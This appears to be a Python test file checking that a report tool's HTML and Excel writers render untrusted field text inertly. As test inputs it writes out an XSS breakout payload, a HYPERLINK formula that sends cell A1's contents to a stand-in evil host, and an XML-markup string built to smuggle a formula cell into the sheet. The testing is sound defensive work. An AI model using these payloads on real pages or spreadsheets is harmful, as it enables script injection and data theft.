"""Hostile text in *every* text field of the report model (as if each came from a source system):
the HTML shows it as text (no element, attribute or script is created) and the XLSX never holds a
formula. Literal fields (statuses, kinds) are overwritten too, since templates put some of them into
attributes such as ``class``."""

from __future__ import annotations

import io
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pydantic import BaseModel

from pmsync.errors import ReportError
from pmsync.report.model import Report
from pmsync.report.writers.html import render_html
from pmsync.report.writers.xlsx import xlsx_bytes

from .htmlcheck import parse
from .sample import sample_report

BREAKOUT = "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"open")'


def hostile(value: Any, text: str) -> Any:
    """``value`` with every string inside it (model fields, list items) replaced by ``text``."""
    if isinstance(value, str):
        return text
    if isinstance(value, BaseModel):
        return value.model_copy(
            update={name: hostile(getattr(value, name), text) for name in type(value).model_fields}
        )
    if isinstance(value, list):
        return [hostile(item, text) for item in value]
    return value


def test_every_text_field_is_escaped_in_html() -> None:
    report: Report = hostile(sample_report(), BREAKOUT)
    page = parse(render_html(report))
    assert page.find("script") == [] and page.find("img") == []
    assert all(not name.startswith("on") for element in page.elements for name in element.attrs)
    assert [e for e in page.find("svg") if "onload" in e.attrs] == []
    assert page.text.count(BREAKOUT) > 50  # the text is still there, for a reader to see


def test_every_text_field_is_inert_in_xlsx() -> None:
    report: Report = hostile(sample_report(), FORMULA)
    data = xlsx_bytes(report)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert len(cells) > 50 and all(c.data_type == "s" and c.quotePrefix for c in cells)


def _cells(data: bytes) -> list[Any]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_text_that_looks_like_a_link_stays_text_in_xlsx() -> None:
    """A writer that guesses from the text would make a clickable link of a source's text."""
    link = "https://evil.invalid/login"
    data = xlsx_bytes(hostile(sample_report(), link))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert not [n for n in names if "hyperlink" in archive.read(n).decode("utf-8", "replace")]
    assert len([c for c in _cells(data) if c.value == link]) > 50


def _with_risk(**fields: Any) -> Report:
    """The sample report with its first risk's ``fields`` replaced, unvalidated (as a figure or
    text a source could bring, or one no source should)."""
    report = sample_report()
    erp = report.projects[0]
    erp = erp.model_copy(update={"risks": [erp.risks[0].model_copy(update=fields)]})
    return report.model_copy(update={"projects": [erp, *report.projects[1:]]})


def _utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


@pytest.mark.parametrize(
    ("long_text", "start"),
    [
        ("Vendor note. " * 3000, "Vendor note."),  # 39,000 characters
        (
            "\N{WARNING SIGN}\N{FIRE}" * 12_000,
            "\N{WARNING SIGN}\N{FIRE}",
        ),  # 24,000 characters, 36,000 UTF-16 units
    ],
    ids=["ascii", "emoji"],
)
def test_text_over_excels_cell_limit_is_cut_and_says_so(long_text: str, start: str) -> None:
    """Excel holds 32,767 UTF-16 units per cell (an emoji takes two) and asks to repair a file with
    more; the cut text ends saying where the whole text is, whatever its characters."""
    data = xlsx_bytes(_with_risk(mitigation=long_text))
    cut = [c.value for c in _cells(data) if isinstance(c.value, str) and c.value.startswith(start)]
    assert cut and all(_utf16_units(text) in (32_766, 32_767) for text in cut)
    assert all(text.endswith("the HTML and JSON reports have the whole text]") for text in cut)


def test_a_figure_that_is_not_a_number_is_written_as_text() -> None:
    """A source's "NaN" probability reaches the model as a float, an absurd score as an int past a
    double's range; Excel holds neither, and the report must not fail over one figure."""
    data = xlsx_bytes(_with_risk(probability=float("nan"), score=10**400))
    values = [c.value for c in _cells(data)]
    assert "nan" in values and str(10**400) in values


def test_text_shaped_as_excels_own_markup_stays_text() -> None:
    """A text starting with <r> and ending with </r> is what XlsxWriter takes for its own rich-text
    markup and writes unescaped: such a source text could add any cell, a formula included."""
    markup = (
        '<r><t>ok</t></r></is></c><c r="Z1"><f>HYPERLINK("https://evil.invalid/","open")</f></c>'
        "<c><is><r><t>x</t></r>"
    )
    data = xlsx_bytes(hostile(sample_report(), markup))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    assert len([c for c in _cells(data) if c.value == markup]) > 50


def test_a_report_that_fails_while_writing_the_xlsx_leaves_no_temporary_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rows wait in temporary files until the workbook is closed; a failure halfway must not
    leave parts of the report in the temporary folder."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(TypeError):
        xlsx_bytes(_with_risk(score=object()))
    assert list(tmp_path.iterdir()) == []


def test_a_sheet_past_excels_rows_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows past Excel's limit would be dropped without a word; the report says which sheet."""
    from pmsync.report.writers import xlsx

    monkeypatch.setattr(xlsx, "SHEET_ROW_LIMIT", 2)
    with pytest.raises(ReportError, match="sheet .* more than Excel's 2 rows") as raised:
        xlsx_bytes(sample_report())
    assert raised.value.hint and "JSON" in raised.value.hint
